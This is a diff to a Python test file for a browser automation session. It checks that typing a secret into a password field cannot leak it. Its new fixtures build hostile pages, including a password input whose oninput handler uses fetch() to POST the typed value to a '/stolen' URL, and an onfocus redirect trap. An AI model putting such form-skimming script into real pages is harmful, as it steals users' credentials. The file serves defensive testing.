@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import contextlib
 import logging
 import time
 
@@ -105,10 +106,19 @@ def test_a_page_that_leaves_when_the_field_gets_the_focus_gets_nothing(
     site.page("/trap", "<input id=p type=password autofocus>")
     target = site.url("/trap", "localhost")
     shared_session.open(site.page("/", f"<input id=p type=password onfocus=\"location='{target}'\">"))
-    with pytest.raises((HostNotAllowedError, ElementMissingError)):
+    with contextlib.suppress(HostNotAllowedError, ElementMissingError):
         shared_session.type("#p", SECRET, secret=True)
     shared_session.settle()
-    assert value_of(shared_session) in ("", None)
+    assert not [request for request in site.requests if request.host == "localhost"]
+
+
+def test_a_field_that_sends_itself_is_guarded(shared_session: BrowserSession, site: Site) -> None:
+    target = site.url("/stolen", "localhost")
+    script = f"fetch('{target}', {{method: 'POST', mode: 'no-cors', body: value}})"
+    shared_session.open(site.page("/", f'<input id=p type=password oninput="{script}">'))
+    with pytest.raises(HostNotAllowedError):
+        shared_session.type("#p", SECRET, secret=True)
+    assert not leaked(site)
 
 
 def test_a_page_cannot_leave_while_a_secret_is_being_typed(
